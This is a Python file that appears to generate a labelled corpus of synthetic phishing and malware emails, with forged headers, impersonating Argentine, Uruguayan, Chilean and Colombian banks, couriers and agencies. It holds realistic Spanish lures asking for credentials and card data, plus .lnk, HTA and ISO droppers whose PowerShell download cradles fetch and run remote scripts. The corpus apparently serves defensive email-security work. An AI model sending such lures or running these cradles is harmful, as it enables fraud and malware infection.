    link = "https://t.ly/AnDr3v"
    paras = [
        "Hola,",
        "Intentamos entregar tu envío <b>N° 360002487719350</b> pero no encontramos a nadie en el domicilio.",
        f"Para reprogramar la entrega y confirmar tu dirección ingresá acá: <a href=\"{link}\">{link}</a>",
        "Se cobrará un costo de reprogramación de $1.250. Si no reprogramás en 72 hs el envío vuelve a la sucursal de origen.",
        "Equipo Andreani",
    ]
    html = kit_html(paras)
    plain = "\n\n".join(strip_tags(p) for p in paras) + "\n"
    mf = f"bounce+{hexs(stem + 'mg', 6)}.{hexs(stem + 'mg2', 6)}-gonzalo_paz77=hotmail.com@{dom}"
    env = Env("outlook", rcpt, d, mg["ip"], mg["rdns"], mg["rdns"], mf, "pass", [(dom, "k1", "pass")], ("none", "none"), dom, country="US")
    own = [dkim_sig(dom, "k1", d, stem, h="Content-Transfer-Encoding: Content-Type: Mime-Version: Subject: Subject: From: From:\n\tTo: To: Date: Message-Id: Sender: Sender"),
           f"X-Mailgun-Sending-Ip: {mg['ip']}",
           f"X-Mailgun-Sid: WyI{tok(stem + 'sid', 36, B64)}",
           f"Received: by {hexs(stem + 'rb', 20)}.mailgun.org with HTTP; {rfc(utc(d)).replace('-0000', '+0000')}",
           f"Date: {rfc(utc(d)).replace('-0000', '+0000')}",
           f"Sender: envios@{dom}",
           f"Message-Id: <{d.astimezone(timezone.utc).strftime('%Y%m%d%H%M%S')}.{hexs(stem + 'mid', 16)}@{dom}>",
           "To: " + rcpt,
           f"From: {addr('Andreani', f'envios@{dom}')}",
           subj("No pudimos entregar tu envío - Reprogramá la visita"),
           "Mime-Version: 1.0"]
    emit(stem, "phishing", "Andreani missed-delivery lure sent through a Mailgun account on a look-alike domain, with a t.ly "
         "shortener to a page charging a re-delivery fee.", env, own, alt(plain, html, hexs(stem + "bd", 60)))


def phish_telepase_peaje() -> None:
    stem = "b45-phish-telepase-peaje"
    d = when(2025, 8, 4, 9, 12, 40, "ar")
    dom = "telepase-pagos.com"
    sg = sendgrid(stem, dom)
    rcpt = "rodrigo.quiroga.ing@gmail.com"
    click = f"https://u{sg['uid']}.ct.sendgrid.net/ls/click?upn=u001.{tok(stem + 'upn', 120, URLSAFE)}"
    title = "Tenés peajes pendientes de pago"
    paras = [
        "Hola,",
        "Registramos <b>6 pasadas sin saldo</b> asociadas a tu dominio en Autopistas AUSA y Autopista Riccheri durante julio.",
        "<b>Total adeudado: $ 12.460</b>",
        "Si no regularizás antes del 08/08/2025 se aplicará un recargo del 50% por pasada y la deuda será informada "
        "para su cobro como infracción de tránsito.",
    ]
    button = ("Pagar ahora", click)
    footer = ["TelePASE - Sistema Único de Telepeaje", "Recibís este e-mail porque tenés un dispositivo TelePASE asociado."]
    html = brand_html("TelePASE", "#00a859", title, paras, button, footer)
    html = html.replace("</body>", f'<img src="https://u{sg["uid"]}.ct.sendgrid.net/wf/open?upn=u001.{tok(stem + "op", 80, URLSAFE)}" '
                                   'alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;" />\n</body>')
    plain = brand_plain(title, paras, button, footer)
    mf = f"bounces+{sg['uid']}-{hexs(stem + 'b', 4)}-rodrigo.quiroga.ing=gmail.com@em{num(stem, 1000, 9999)}.{dom}"
    env = Env("gmail", rcpt, d, sg["ip"], sg["rdns"], sg["rdns"], mf, "pass",
              [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], None, dom)
    own = [dkim_sig(dom, "s1", d, stem, h="content-type:from:mime-version:subject:x-feedback-id:to:cc:\n\tcontent-type:from:subject:to"),
           dkim_sig("sendgrid.info", "smtpapi", d, stem + "sg", h="content-type:from:mime-version:subject:x-feedback-id:to:cc:\n\tcontent-type:from:subject:to"),
           f"Received: by recvd-{hexs(stem + 'rv', 10)}-{tok(stem + 'rv2', 5, string.ascii_lowercase)} with SMTP id recvd-{hexs(stem + 'rv', 10)}-{tok(stem + 'rv2', 5, string.ascii_lowercase)}-1-{hexs(stem + 'rv3', 8).upper()}-{num(stem, 10, 99)}\n"
           f"\t{rfc(utc(d)).replace('-0000', '+0000')} (UTC)",
           f"Received: from {sg['uid']} (unknown)\n\tby geopod-ismtpd-{num(stem + 'g', 1, 40)} (SG) with HTTP\n\tid {tok(stem + 'gid', 22, URLSAFE)}\n\t{rfc(utc(d)).replace('-0000', '+0000')} (UTC)",
           "Content-Type: text/plain; charset=us-ascii",
           f"Date: {rfc(utc(d)).replace('-0000', '+0000')}",
           f"From: {addr('TelePASE', f'avisos@{dom}')}",
           "Mime-Version: 1.0",
           f"Message-ID: {sendgrid_msgid(stem)}",
           subj("Tenés peajes pendientes de pago - evitá el recargo"),
           f"X-SG-EID: u001.{tok(stem + 'eid', 90, B64)}",
           f"X-SG-ID: u001.SdBcvi+Evd/bQef8eZF3BuC{tok(stem + 'sgid', 40, B64)}",
           f"X-Feedback-ID: {sg['uid']}:SG",
           f"To: {rcpt}"]
    own = [h for h in own if not h.startswith("Content-Type: text/plain")]
    emit(stem, "phishing", "TelePASE unpaid-toll lure (6 pasadas, $12.460, 50% recargo) sent through a SendGrid account on a "
         "look-alike domain, link wrapped by SendGrid click tracking.", env, own, alt(plain, html, hexs(stem + "bd", 64)))


def phish_edenor_corte() -> None:
    stem = "b45-phish-edenor-corte"
    d = when(2025, 1, 14, 7, 51, 2, "ar")
    dom = "edenor-pagos.com"
    srv = "srv01.inmobiliariacentro.com.ar"
    rcpt = "nachoperalta1990@gmail.com"
    link = f"https://{dom}/clientes/pago-rapido/?nis={num(stem, 1000000, 9999999)}"
    title = "Aviso de suspensión del suministro"
    paras = [
        "Estimado/a cliente:",
        "Le recordamos que su factura con vencimiento el 02/01/2025 por <b>$ 38.912,55</b> se encuentra impaga.",
        "De acuerdo con el Reglamento de Suministro (ENRE), el servicio será <b>suspendido en las próximas 48 horas</b> "
        "si no se registra el pago. La reconexión tiene un costo adicional de $ 15.600.",
        "Evite el corte abonando ahora con tarjeta de débito o crédito:",
    ]
    button = ("Pagar factura", link)
    footer = ["Edenor S.A. - Av. del Libertador 6363, C.A.B.A.", "Mensaje generado automáticamente."]
    html = brand_html("edenor", "#e4002b", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    env = Env("gmail", rcpt, d, f"181.119.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}", srv, srv,
              f"inmobili@{srv}", "neutral", [], None, dom)
    own = kit_own(d, addr("Edenor", f"facturadigital@{dom}"), rcpt, "Aviso de suspensión del suministro - Factura vencida",
                  f"<{tok(stem + 'id', 32, ALNUM)}@{srv}>", stem, mailer="PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)",
                  extra=[f"X-PHP-Originating-Script: 1004:mailer.php", "X-Priority: 1"])
    emit(stem, "phishing", "Edenor supply-cut lure (overdue bill, 48 h) sent by a PHP script on a compromised real-estate "
         "cPanel server with no DKIM and an unauthenticated look-alike From domain, linking to a payment page.", env, own,
         alt(plain, html, phpmailer_boundary(stem)))


def phish_anses_miargentina() -> None:
    stem = "b45-phish-anses-miargentina"
    d = when(2024, 7, 29, 13, 20, 9, "ar")
    dom = "miargentina-tramites.com"
    vps = contabo(stem)
    rcpt = "nora.figueroa.55@gmail.com"
    link = f"https://{dom}/anses/refuerzo/validar?ref={tok(stem, 12, ALNUM)}"
    title = "Tenés un beneficio pendiente de cobro"
    paras = [
        "Hola,",
        "ANSES informa que tenés disponible el <b>Refuerzo de Ingresos de $70.000</b> correspondiente a julio 2024.",
        "Para cobrarlo tenés que validar tu identidad con tu cuenta de Mi Argentina y cargar el CBU donde querés recibir "
        "el dinero. El trámite vence el 31/07.",
    ]
    button = ("Validar y cobrar", link)
    footer = ["Mi Argentina - Secretaría de Innovación Pública", "ANSES - Administración Nacional de la Seguridad Social"]
    html = brand_html("Mi Argentina", "#37bbed", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    env = Env("gmail", rcpt, d, vps["ip"], vps["rdns"], f"mail.{dom}", f"notificaciones@{dom}", "pass",
              [(dom, "default", "pass")], None, dom)
    own = kit_own(d, addr("Mi Argentina", f"notificaciones@{dom}"), rcpt, "ANSES: tenés $70.000 pendientes de cobro",
                  kit_msgid(dom, stem), stem, dkim=(dom, "default"), local_hop=f"mail.{dom}")
    emit(stem, "phishing", "ANSES 'Refuerzo de Ingresos' benefit lure branded as Mi Argentina from a look-alike domain, "
         "asking for identity validation and CBU.", env, own, alt(plain, html, phpmailer_boundary(stem)))


def phish_mercadolibre_vendedor() -> None:
    stem = "b45-phish-mercadolibre-vendedor"
    d = when(2025, 4, 7, 18, 2, 33, "ar")
    sender = "pagos.mercadolibre.ar@gmail.com"
    rcpt = "tomas.ledesma.ventas@gmail.com"
    link = f"https://liberar-venta-ml.web.app/venta/{num(stem, 2000000000, 2999999999)}"
    title = "¡Vendiste! El comprador ya pagó"
    paras = [
        "Hola Tomás,",
        "El comprador <b>MATIASG_2021</b> ya realizó el pago de <b>$ 385.000</b> por tu publicación "
        "<b>iPhone 13 128 GB Medianoche</b>.",
        "El dinero quedó <b>retenido</b> hasta que confirmes el despacho. Por tratarse de un vendedor sin reputación "
        "verde, primero tenés que cargar el código de seguimiento y validar tu cuenta de cobro.",
    ]
    button = ("Liberar mi dinero", link)
    footer = ["Mercado Libre", "No respondas este e-mail."]
    html = brand_html("mercado libre", "#ffe600", title, paras, button, footer, text_color="#333333")
    html = html.replace('color:#ffffff;">mercado libre', 'color:#2d3277;">mercado libre')
    plain = brand_plain(title, paras, button, footer)
    sh, hop = gmail_sender(sender, d, stem)
    env = Env("gmail", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [("gmail.com", "20230601", "pass")],
              ("pass", "none"), "gmail.com")
    own = sh + [f"From: {addr('Mercado Libre', sender)}", f"Date: {rfc(d)}", f"Message-ID: {gmail_msgid(stem)}",
                subj("¡Vendiste! El comprador ya pagó tu iPhone 13"), f"To: {rcpt}"]
    emit(stem, "phishing", "Mercado Libre seller scam: fake 'el comprador ya pagó' notice from a Gmail account telling the "
         "seller the money is held until he validates on a Firebase-hosted page.", env, own,
         alt(plain, html, gmail_boundary(stem)))


def phish_cedula_judicial_lnk() -> None:
    stem = "b45-phish-cedula-judicial-lnk"
    d = when(2025, 5, 20, 11, 17, 45, "ar")
    comp = "estudiorodriguezabogados.com.ar"
    host = ferozo(stem)
    rcpt = "legales@logisur.com.ar"
    name = "Cedula_Notificacion_Expte_48217-2024"
    lnk = files.lnk_shortcut("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                             "-w hidden -nop -ep bypass -c \"iwr https://cdn-pjn-notificaciones.com/c/n.ps1 -o $env:TEMP\\n.ps1;"
                             " & $env:TEMP\\n.ps1\"")
    z = files.zip_archive([(f"{name}.pdf.lnk", lnk)])
    paras = [
        "PODER JUDICIAL DE LA NACIÓN",
        "Juzgado Nacional de Primera Instancia en lo Comercial N° 14 - Secretaría N° 27",
        "",
        "CÉDULA DE NOTIFICACIÓN ELECTRÓNICA",
        "Expte. N° 48.217/2024 - \"LOGÍSTICA DEL PLATA S.A. c/ LOGISUR S.R.L. s/ ORDINARIO\"",
        "",
        "Se notifica a Ud. la resolución dictada en los autos de referencia. Se adjunta cédula y copia de la demanda. "
        "Plazo para contestar: 15 días hábiles.",
        "",
        "Dr. Pablo E. Rodríguez - T° 98 F° 412 CPACF",
    ]
    plain = "\n".join(paras) + "\n"
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head>'
            '<body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n'
            + "".join(f"<p>{p}</p>\n" if p else "<p>&nbsp;</p>\n" for p in paras) + "</body></html>\n")
    body = Multi("mixed", "=_" + hexs(stem + "m", 32), [
        alt(plain, html, "=_" + hexs(stem + "a", 32)),
        attachment("application/zip", f"{name}.zip", z),
    ])
    env = Env("m365", rcpt, d, host["ip"], host["rdns"], host["rdns"], f"estudio@{comp}", "pass",
              [(comp, "default", "pass")], ("none", "none"), comp)
    own = [dkim_sig(comp, "default", d, stem, h="Content-Type:Message-ID:Subject:To:From:Date:MIME-Version:Sender:\n\tReply-To:Cc"),
           f"Received: from [102.129.{num(stem, 1, 250)}.{num(stem + 'b', 1, 250)}] (port={num(stem + 'p', 40000, 60000)} helo=webmail.{comp})\n"
           f"\tby {host['rdns']} with esmtpa (Exim 4.98)\n\t(envelope-from <estudio@{comp}>)\n"
           f"\tid 1tHa{tok(stem + 'e', 2, ALNUM)}-{tok(stem + 'f', 6, ALNUM)}-1c;\n\t{rfc(d - timedelta(seconds=2))}",
           "MIME-Version: 1.0", f"Date: {rfc(d)}",
           f"From: {addr('Poder Judicial - Notificaciones', f'estudio@{comp}')}",
           f"To: {rcpt}",
           subj("CÉDULA DE NOTIFICACIÓN ELECTRÓNICA - Expte. N° 48.217/2024 - Juzg. Com. N° 14"),
           f"Message-ID: <{hexs(stem + 'rc', 32)}@{comp}>", "User-Agent: Roundcube Webmail/1.6.9"]
    emit(stem, "malware", "Poder Judicial 'cédula de notificación electrónica' lure from a compromised law-firm mailbox to a "
         "company's legal inbox, carrying a zip with a .pdf.lnk that launches a hidden PowerShell downloader.", env, own, body)


# --------------------------------------------------------------------------------------------------
# attacks: Uruguay and Chile
# --------------------------------------------------------------------------------------------------


def simple_brand_phish(stem: str, d: datetime, dom: str, infra: dict, env_provider: str, rcpt: str, from_name: str,
                       from_local: str, subject: str, brand: str, color: str, title: str, paras: list[str],
                       button: tuple[str, str] | None, footer: list[str], description: str, after: list[str] | None = None,
                       country: str = "US", mx: str = "", preheader: str = "", dkim: bool = True,
                       folder: str = "phishing") -> None:
    """A look-alike-domain lure sent from a VPS the attacker runs (Postfix + OpenDKIM + PHPMailer)."""
    html = brand_html(brand, color, title, paras, button, footer, after=after, preheader=preheader)
    plain = brand_plain(title, paras, button, footer, after)
    sender = f"{from_local}@{dom}"
    env = Env(env_provider, rcpt, d, infra["ip"], infra["rdns"], f"mail.{dom}", sender, "pass",
              [(dom, "default", "pass")] if dkim else [], ("none", "none") if env_provider in ("m365", "outlook") else None,
              dom, country=country, mx=mx)
    own = kit_own(d, addr(from_name, sender), rcpt, subject, kit_msgid(dom, stem), stem,
                  dkim=(dom, "default") if dkim else None, local_hop=f"mail.{dom}")
    emit(stem, folder, description, env, own, alt(plain, html, phpmailer_boundary(stem)))


def phish_brou_ebrou() -> None:
    stem = "b45-phish-brou-ebrou"
    d = when(2025, 3, 3, 8, 31, 15, "uy")
    dom = "ebrou-seguridad.com"
    link = f"https://{dom}/ebrou/login.php?sid={tok(stem, 20, HEXL)}"
    simple_brand_phish(
        stem, d, dom, hostwinds(stem), "postfix", "mrodriguez1972@adinet.com.uy", "BROU", "avisos",
        "eBROU: tu usuario fue suspendido preventivamente", "BROU", "#003c7d", "Tu acceso a eBROU fue suspendido",
        ["Estimado cliente:",
         "Por motivos de seguridad suspendimos preventivamente tu usuario de <b>eBROU</b>, ya que no completaste la "
         "actualización de datos requerida por el Banco Central del Uruguay.",
         "Para reactivar tu acceso ingresá con tu cédula y contraseña y confirmá la tarjeta de coordenadas."],
        ("Reactivar mi usuario", link),
        ["Banco de la República Oriental del Uruguay", "Cerrito 351, Montevideo"],
        "BROU eBROU 'usuario suspendido' lure in Uruguayan voseo from a look-alike domain, asking for cédula, password "
        "and the coordinate card.", mx="mx2.adinet.com.uy")


def phish_dgi_cfe_iso() -> None:
    stem = "b45-phish-dgi-cfe-iso"
    d = when(2024, 10, 15, 15, 2, 27, "uy")
    dom = "dgi-cfe-comprobantes.com"
    vps = ovh(stem)
    rcpt = "contaduria@estudiopereyra.com.uy"
    lnk = files.lnk_shortcut("C:\\Windows\\System32\\rundll32.exe", "eFactura_1043877.dll,DllRegisterServer")
    iso = files.iso_image([("eFactura_A_1043877.lnk", lnk), ("eFactura_1043877.dll", files.pe_stub())], "EFACTURA")
    paras = [
        "Estimado contribuyente:",
        "Se adjunta el Comprobante Fiscal Electrónico (CFE) e-Factura serie A N° 1043877 emitido a su nombre, junto con "
        "la constancia de recepción de la DGI.",
        "El comprobante presenta observaciones de validación. Deberá revisarlo y confirmar los datos antes del 18/10/2024 "
        "para evitar sanciones según la Resolución DGI N° 798/2012.",
        "Dirección General Impositiva - Departamento de Facturación Electrónica",
    ]
    html = kit_html(paras)
    plain = "\n\n".join(strip_tags(p) for p in paras) + "\n"
    body = Multi("mixed", phpmailer_boundary(stem), [
        alt(plain, html, phpmailer_boundary(stem + "a")),
        attachment("application/octet-stream", "eFactura_A_1043877.iso", iso),
    ])
    env = Env("m365", rcpt, d, vps["ip"], vps["rdns"], f"mail.{dom}", f"cfe@{dom}", "pass",
              [(dom, "default", "pass")], ("none", "none"), dom, country="FR")
    own = kit_own(d, addr("DGI - Comprobantes Fiscales Electrónicos", f"cfe@{dom}"), rcpt,
                  "CFE e-Factura A 1043877 - Observaciones de validación DGI", kit_msgid(dom, stem), stem, dkim=(dom, "default"))
    emit(stem, "malware", "DGI Uruguay 'CFE e-Factura con observaciones' lure from a look-alike domain carrying an ISO image "
         "with a .lnk that side-loads a DLL through rundll32.", env, own, body)


def phish_bancoestado_cuentarut() -> None:
    stem = "b45-phish-bancoestado-cuentarut"
    d = when(2025, 1, 27, 12, 40, 55, "cl")
    dom = "bancoestado-cuentarut.cl"
    simple_brand_phish(
        stem, d, dom, contabo(stem), "gmail", "javiera.munoz.r@gmail.com", "BancoEstado", "notificaciones",
        "Tu CuentaRUT ha sido bloqueada por seguridad", "BancoEstado", "#f28c00", "Tu CuentaRUT ha sido bloqueada",
        ["Estimado(a) cliente:",
         "Hemos detectado actividad inusual en tu <b>CuentaRUT</b> y, por tu seguridad, la hemos bloqueado temporalmente.",
         "Para desbloquearla debes validar tu identidad ingresando tu RUT, tu clave de internet y los datos de tu "
         "BancoEstado Pass. Si no lo haces dentro de 24 horas, tu cuenta quedará bloqueada de forma permanente."],
        ("Desbloquear CuentaRUT", f"https://{dom}/personas/validacion/?rut={tok(stem, 8, DIG)}"),
        ["BancoEstado - Banco del Estado de Chile", "Este correo es informativo, no respondas a esta dirección."],
        "BancoEstado CuentaRUT account-lock lure from a .cl look-alike domain on a VPS, asking for RUT, password and "
        "BancoEstado Pass data.")


def phish_bancochile_mipass() -> None:
    stem = "b45-phish-bancochile-mipass"
    d = when(2025, 5, 6, 9, 58, 31, "cl")
    comp = "colegiosanagustinvalpo.cl"
    sender = f"contacto@{comp}"
    rcpt = "pablo.araya.c@hotmail.com"
    link = "https://www.turismopucon-aventura.cl/wp-includes/bch/personas/login/?ref=mipass"
    paras = [
        "Estimado cliente,",
        "Le informamos que, según la normativa de la CMF, es obligatorio actualizar el dispositivo asociado a su "
        "<b>Mi Pass</b> antes del 08/05/2025.",
        "Si no realiza la actualización, no podrá autorizar transferencias ni compras por internet.",
        f"Actualice aquí: <a href=\"{link}\">Banco de Chile - Actualizar Mi Pass</a>",
        "",
        "Banco de Chile",
    ]
    html = gmail_html(paras)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n"
    sh, hop = gmail_sender(sender, d, stem, domain=comp, selector="google")
    env = Env("outlook", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [(comp, "google", "pass")],
              ("pass", "none"), comp, country="US")
    own = sh + [f"From: {addr('Banco de Chile', sender)}", f"Date: {rfc(d)}", f"Message-ID: {gmail_msgid(stem)}",
                subj("Banco de Chile: actualización obligatoria de Mi Pass"), f"To: {addr('', sender)}",
                f"Bcc: {rcpt}"]
    own = [h for h in own if not h.startswith("Bcc:")]
    emit(stem, "phishing", "Banco de Chile 'actualización obligatoria de Mi Pass' lure sent from a compromised school Google "
         "Workspace mailbox (victims in Bcc), linking to a kit planted in a compromised tourism WordPress site.", env, own,
         alt(plain, html, gmail_boundary(stem)))


def phish_sii_dte_hta() -> None:
    stem = "b45-phish-sii-dte-hta"
    d = when(2025, 4, 22, 10, 14, 9, "cl")
    dom = "sii-dte-notificaciones.cl"
    vps = hostinger(stem)
    rcpt = "finanzas@constructoralosrobles.cl"
    hta = ("<html><head><title>SII</title><HTA:APPLICATION ID=\"sii\" APPLICATIONNAME=\"DTE\" WINDOWSTATE=\"minimize\" "
           "SHOWINTASKBAR=\"no\"/>\r\n<script language=\"VBScript\">\r\n"
           "Set o = CreateObject(\"WScript.Shell\")\r\n"
           "o.Run \"powershell -nop -w hidden -c \"\"iex (New-Object Net.WebClient).DownloadString('https://sii-dte-visor.com/v.txt')\"\"\", 0\r\n"
           "self.close\r\n</script></head><body></body></html>\r\n")
    z = files.zip_archive([("DTE_Folio_58412_SII.hta", hta.encode())])
    paras = [
        "Señor(a) Contribuyente:",
        "El Servicio de Impuestos Internos informa que el Documento Tributario Electrónico <b>Factura Electrónica "
        "Folio N° 58412</b> emitido por su empresa ha sido <b>observado</b> por inconsistencias en el IVA declarado.",
        "Revise el detalle adjunto y regularice dentro de 5 días hábiles para evitar la aplicación de multas según "
        "el Art. 97 N° 10 del Código Tributario.",
        "Servicio de Impuestos Internos - Subdirección de Fiscalización",
    ]
    html = kit_html(paras)
    plain = "\n\n".join(strip_tags(p) for p in paras) + "\n"
    body = Multi("mixed", phpmailer_boundary(stem), [
        alt(plain, html, phpmailer_boundary(stem + "a")),
        attachment("application/x-zip-compressed", "DTE_Folio_58412_SII.zip", z),
    ])
    env = Env("m365", rcpt, d, vps["ip"], vps["rdns"], f"mail.{dom}", f"notificaciones@{dom}", "pass",
              [(dom, "default", "pass")], ("none", "none"), dom, country="US")
    own = kit_own(d, addr("SII - Servicio de Impuestos Internos", f"notificaciones@{dom}"), rcpt,
                  "Notificación SII: DTE Folio 58412 observado", kit_msgid(dom, stem), stem, dkim=(dom, "default"))
    emit(stem, "malware", "SII Chile 'DTE observado' lure from a look-alike domain carrying a zip with an .hta that runs a "
         "hidden PowerShell download cradle.", env, own, body)


def phish_correoschile_arancel() -> None:
    stem = "b45-phish-correoschile-arancel"
    d = when(2024, 11, 28, 17, 25, 44, "cl")
    dom = "correoschile-envio.com"
    simple_brand_phish(
        stem, d, dom, contabo(stem), "gmail", "fernanda.soto.v@gmail.com", "CorreosChile", "no-reply",
        "Tu envío tiene un arancel pendiente", "CorreosChile", "#e30613", "Envío pendiente de pago",
        ["Hola,",
         "Tu envío <b>RB 598 214 733 CN</b> llegó a Chile y está listo para su distribución, pero tiene un "
         "<b>arancel de importación pendiente de $2.990</b>.",
         "Paga el arancel para que podamos entregarlo. Si no se paga en 3 días hábiles, el envío será devuelto."],
        ("Pagar arancel", f"https://{dom}/seguimiento/pago/?n=RB598214733CN"),
        ["CorreosChile - Empresa de Correos de Chile"],
        "CorreosChile customs-fee lure ($2.990 arancel) for a Chinese parcel, look-alike domain on a VPS linking to a "
        "card-payment page.")


def phish_entel_boleta() -> None:
    stem = "b45-phish-entel-boleta"
    d = when(2025, 7, 15, 20, 11, 8, "cl")
    dom = "entel-pagos.cl"
    simple_brand_phish(
        stem, d, dom, ovh(stem), "outlook", "cristobal.pinto@hotmail.com", "Entel", "boleta",
        "Tu boleta Entel está vencida: evita la suspensión del servicio", "entel", "#002eff",
        "Tu boleta está vencida",
        ["Hola,",
         "Tu boleta de julio por <b>$24.990</b> se encuentra vencida. Para evitar la suspensión de tu plan móvil, "
         "paga hoy y obtén un <b>20% de descuento</b> por pago inmediato.",
         "Puedes pagar con tarjeta de crédito o débito en nuestro portal."],
        ("Pagar con 20% dcto.", "https://is.gd/EnT3lP"),
        ["Entel PCS Telecomunicaciones S.A."],
        "Entel overdue-bill lure with a fake 20% discount for immediate payment, look-alike domain and an is.gd "
        "shortener to a card-harvesting page.", country="FR")


def phish_mach_tarjeta() -> None:
    stem = "b45-phish-mach-tarjeta"
    d = when(2025, 9, 9, 21, 47, 19, "cl")
    dom = "somosmach-app.com"
    simple_brand_phish(
        stem, d, dom, hostinger(stem), "gmail", "ignacio.fuentes.m@gmail.com", "MACH", "soporte",
        "Tu tarjeta MACH fue bloqueada", "MACH", "#6c1ed3", "Bloqueamos tu tarjeta por seguridad",
        ["Hola,",
         "Detectamos un intento de compra de <b>$189.990</b> en ALIEXPRESS con tu tarjeta MACH que no coincide con tu "
         "comportamiento habitual, así que la bloqueamos.",
         "Si no reconoces esta compra, desbloquea tu tarjeta y confirma tus datos para recibir el reembolso."],
        ("No reconozco esta compra", f"https://{dom}/app/desbloqueo?u={tok(stem, 14, ALNUM)}"),
        ["MACH - BCI", "Recibes este correo porque eres usuario MACH."],
        "MACH (BCI) card-blocked lure citing an unrecognised AliExpress purchase, look-alike domain linking to a "
        "card-data page.")


def phish_claveunica_m365() -> None:
    stem = "b45-phish-claveunica-m365"
    d = when(2025, 11, 4, 11, 9, 36, "cl")
    comp = "transportesvaldivia.cl"
    sender = f"contacto@{comp}"
    rcpt = "constanza.reyes.h@gmail.com"
    link = "https://claveunica-gob.site/accounts/login/?next=/openid/authorize"
    title = "Tu ClaveÚnica expira en 48 horas"
    paras = [
        "Estimado(a) ciudadano(a):",
        "Le informamos que su <b>ClaveÚnica</b> expirará en las próximas 48 horas por no haber actualizado sus datos de "
        "contacto conforme a la Ley N° 21.180 de Transformación Digital del Estado.",
        "Sin ClaveÚnica no podrá acceder a trámites en Registro Civil, SII, ChileAtiende ni Fonasa.",
    ]
    button = ("Actualizar ClaveÚnica", link)
    footer = ["Gobierno de Chile - ClaveÚnica", "Este mensaje fue enviado automáticamente."]
    html = brand_html("ClaveÚnica", "#0f69c4", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    sh, hop = m365_sender(comp, sender, d, stem)
    mid = hop["msgid"]
    env = Env("gmail", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass",
              [(comp, "selector1", "pass")], ("pass", "none"), comp)
    sh[2] = dkim_sig(comp, "selector1", d, stem, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    own = sh + [
        f"From: {addr('ClaveÚnica', sender)}",
        f"To: {addr('', sender)}",
        subj("Tu ClaveÚnica expira en 48 horas"),
        *outlook_client_headers(stem, d, "Tu ClaveÚnica expira en 48 horas", lang="es-CL"),
        f"Date: {rfc(d)}",
        f"Message-ID: {mid}",
        "MIME-Version: 1.0",
    ]
    emit(stem, "phishing", "ClaveÚnica expiry lure sent from a compromised transport company's Microsoft 365 mailbox "
         "(SPF/DKIM/DMARC pass) to a look-alike .site login page.", env, own, alt(plain, html, outlook_boundary(mid)))


# --------------------------------------------------------------------------------------------------
# attacks: Colombia
# --------------------------------------------------------------------------------------------------


def phish_bancolombia_clave() -> None:
    stem = "b45-phish-bancolombia-clave-dinamica"
    d = when(2025, 2, 18, 7, 33, 50, "co")
    dom = "bancolombia-alertas.co"
    simple_brand_phish(
        stem, d, dom, contabo(stem), "gmail", "andres.felipe.rios@gmail.com", "Bancolombia", "alertas",
        "Su Clave Dinámica ha sido desactivada", "Bancolombia", "#fdda24", "Su Clave Dinámica fue desactivada",
        ["Señor(a) usuario(a):",
         "Le informamos que su <b>Clave Dinámica</b> ha sido desactivada por seguridad al detectarse un intento de "
         "vinculación desde un dispositivo no autorizado.",
         "Para volver a activarla y seguir realizando transferencias desde la App Personas, ingrese y confirme su "
         "información. Este proceso debe realizarse hoy."],
        ("Activar Clave Dinámica", f"https://{dom}/personas/clave-dinamica/activar?s={tok(stem, 16, HEXL)}"),
        ["Bancolombia S.A. - Establecimiento Bancario", "Por favor no responda a este correo."],
        "Bancolombia 'Clave Dinámica desactivada' lure in Colombian usted from a .co look-alike domain on a VPS, linking "
        "to a credential page.")


def phish_davivienda_token() -> None:
    stem = "b45-phish-davivienda-token"
    d = when(2024, 8, 13, 10, 2, 14, "co")
    dom = "davivienda-token.com"
    srv = "server.colegiolaspalmas.edu.co"
    rcpt = "luisa.f.castro@outlook.com"
    link = f"https://{dom}/personas/token-movil/?id={tok(stem, 10, DIG)}"
    title = "Actualización obligatoria del Token Davivienda"
    paras = [
        "Apreciado cliente:",
        "A partir del 15 de agosto de 2024 el <b>Token Davivienda Móvil</b> debe actualizarse a la nueva versión de "
        "seguridad para seguir autorizando sus transacciones.",
        "Realice la actualización en línea. Tendrá a mano su número de documento, clave virtual y los datos de su tarjeta débito.",
    ]
    button = ("Actualizar token", link)
    footer = ["Banco Davivienda S.A.", "Aquí lo tiene todo."]
    html = brand_html("DAVIVIENDA", "#ed1c27", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    env = Env("outlook", rcpt, d, f"190.8.{num(stem, 160, 191)}.{num(stem + 'b', 2, 250)}", srv, srv,
              f"colegiol@{srv}", "none", [], ("none", "none"), dom, country="CO")
    own = kit_own(d, addr("Davivienda", f"notificaciones@{dom}"), rcpt, title, f"<{tok(stem + 'id', 32, ALNUM)}@{srv}>",
                  stem, mailer="PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)",
                  extra=["X-PHP-Originating-Script: 1012:envio.php"])
    emit(stem, "phishing", "Davivienda 'Token Davivienda Móvil' mandatory-update lure sent by a PHP mailer on a compromised "
         "school cPanel server, unauthenticated look-alike From, asking for document, virtual password and debit card.",
         env, own, alt(plain, html, phpmailer_boundary(stem)))


def phish_nequi_verificacion() -> None:
    stem = "b45-phish-nequi-verificacion"
    d = when(2025, 10, 20, 16, 40, 2, "co")
    dom = "nequi-verifica.co"
    simple_brand_phish(
        stem, d, dom, hostwinds(stem), "zimbra", "auxiliar.contable@inversionesmedellin.com.co", "Nequi", "hola",
        "Tu cuenta Nequi será cancelada", "Nequi", "#200020", "¡Ojo! Tu Nequi está en riesgo",
        ["¡Hola!",
         "Según la nueva regulación de la Superintendencia Financiera, todas las cuentas Nequi deben verificar su "
         "identidad antes del 25 de octubre.",
